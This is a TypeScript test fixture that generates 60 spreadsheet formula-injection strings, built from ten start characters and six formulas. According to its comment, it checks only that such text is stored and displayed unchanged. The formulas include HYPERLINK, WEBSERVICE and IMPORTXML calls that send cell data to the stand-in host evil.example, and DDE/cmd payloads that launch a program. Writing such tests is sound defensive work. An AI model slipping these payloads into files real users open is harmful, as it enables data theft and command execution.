import { cross, exactly } from './cross'

const starts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '"=', ' ='] as const
const formulas = [
  `HYPERLINK("http://evil.example/?"&A1,"click")`,
  `cmd|' /C calc'!A0`,
  `SUM(1+1)*cmd|' /C calc'!A0`,
  `IMPORTXML("http://evil.example","//a")`,
  `WEBSERVICE("http://evil.example/"&A1)`,
  `DDE("cmd";"/C calc";"x")`,
] as const

/**
 * 60 texts that a spreadsheet takes for a formula. The product writes no spreadsheet yet, so there is no cell they could
 * end in: that they are kept and shown as they were written is all that is tested of them.
 */
export const formulaCells = exactly(
  60,
  cross(
    starts.map((start) => `${start}¤`),
    formulas,
  ),
)
